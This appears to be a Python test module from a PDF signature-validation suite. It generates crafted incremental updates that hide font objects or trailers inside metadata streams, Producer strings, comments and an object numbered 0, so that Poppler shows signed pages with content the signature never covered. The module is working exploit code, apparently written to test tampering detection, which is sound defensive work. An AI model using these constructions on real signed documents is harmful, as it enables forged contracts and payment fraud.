"""P4, P5: octets that an update may bring, and that say "object" to readers that search for objects.

The signed page names an object that is not there. Poppler then searches the whole file for objects and for trailers,
and takes the last one of each number: in the update it finds them within strings, streams and comments.
"""

from __future__ import annotations

from tests.pki.pdf.samples import BODIES, append, raw, stream, table_pdf

from .attack import FIELD, FORM, Attack, attack, hand_signed, prepared

ATTACKS: list[Attack] = []
SEEMING = "looks like an object or a trailer"
FONT = b"5 0 obj\n<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[49/nine]>>>>\nendobj\n"


def nameless() -> bytes:
    """Two signed pages; the first draws an object beyond all that the cross-reference knows."""
    bodies = {
        **BODIES,
        2: b"<</Type/Pages/Kids[3 0 R 6 0 R]/Count 2>>",
        3: BODIES[3].replace(b"/Font", b"/XObject<</X 999 0 R>>/Font"),
        4: stream(b"BT /F1 12 Tf 72 720 Td (Pay 100 to Mau) Tj ET /X Do"),
        6: BODIES[3],
        7: b"null",
        8: b"null",
    }
    form = {1: FORM[1].replace(b"7 0 R", b"8 0 R"), 8: FIELD.replace(b"6 0 R", b"7 0 R")}
    return hand_signed(prepared(base=table_pdf(bodies), bodies=form, number=7))


@attack(ATTACKS, change="unexplained", words=SEEMING)
def a_font_within_metadata() -> bytes:
    """P4, P5: "objects stand where the cross-reference says": Poppler draws the second page with this font."""
    pdf = nameless()
    metadata = stream(b"<x:xmpmeta/>\n" + FONT, b"/Type/Metadata/Subtype/XML")
    return append(pdf, {20: metadata, 1: raw(pdf, 1)[:-2] + b"/Metadata 20 0 R>>"})


@attack(ATTACKS, change="unexplained", words=SEEMING)
def a_font_within_the_name_of_the_producer() -> bytes:
    """P4, P5: the same in a string."""
    return append(nameless(), {20: b"<</Producer(\n%s)>>" % FONT}, trailer=b"/Info 20 0 R")


@attack(ATTACKS, change="unexplained", words=SEEMING)
def a_font_within_a_comment() -> bytes:
    """P4, P5: and in a comment, for readers that search for words and not for lines."""
    comment = FONT.replace(b"\n", b" ").replace(b"endobj", b"")
    return append(nameless(), {20: b"<</Producer(x)%% %s\n>>" % comment}, trailer=b"/Info 20 0 R")


@attack(ATTACKS, change="unexplained", words=SEEMING)
def a_trailer_within_a_string() -> bytes:
    """P4, P5: the catalog is what the last trailer names."""
    return append(nameless(), {20: b"<</Producer(\ntrailer\n<</Root 6 0 R>>\n)>>"}, trailer=b"/Info 20 0 R")


@attack(ATTACKS, change="structure", words="object 0")
def an_object_under_the_number_0() -> bytes:
    """P5: number 0 is the head of the free list; an object under it is for readers that do not know."""
    pdf = nameless()
    start = len(pdf)
    body = b"0 0 obj\n" + BODIES[5] + b"\nendobj\n"
    table = b"xref\n0 1\n%010d 00000 n \ntrailer\n<</Size 9/Root 1 0 R/Prev %d>>\n" % (start, _startxref(pdf))
    return pdf + body + table + b"startxref\n%d\n%%%%EOF\n" % (start + len(body))


def _startxref(pdf: bytes) -> int:
    return int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
